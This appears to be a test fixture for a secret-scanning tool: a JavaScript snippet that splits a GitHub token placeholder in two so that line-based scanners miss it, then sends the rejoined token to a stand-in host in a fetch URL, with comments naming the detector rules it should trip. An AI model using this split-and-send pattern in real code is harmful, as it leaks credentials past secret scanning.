// Cut in two so that no scanner of lines sees it whole.
const head = '{{secret:github-classic:1|to:11}}';
const tail = '{{secret:github-classic:1|from:11}}';
fetch('https://api.build.example/dispatch?token='.concat(head, tail)); // expect: credential-leak/vendor-token, url-analyzer/credential-in-url
